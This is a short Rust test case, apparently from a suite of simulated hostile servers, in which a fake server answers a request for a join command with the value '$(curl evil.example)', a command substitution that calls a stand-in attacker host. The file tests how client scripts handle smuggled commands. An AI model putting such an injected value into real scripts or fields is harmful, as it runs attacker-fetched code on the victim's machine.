// Says another command where a script expects a join command.
// args: abcdef.0123456789abcdef
use hostile::*;

struct Case;

impl Hostile for Case {
    fn plan_for(request: Request) -> Result<Plan, Failure> {
        Ok(line("join-command", "$(curl evil.example)", &request))
    }
}

hostile!(Case);
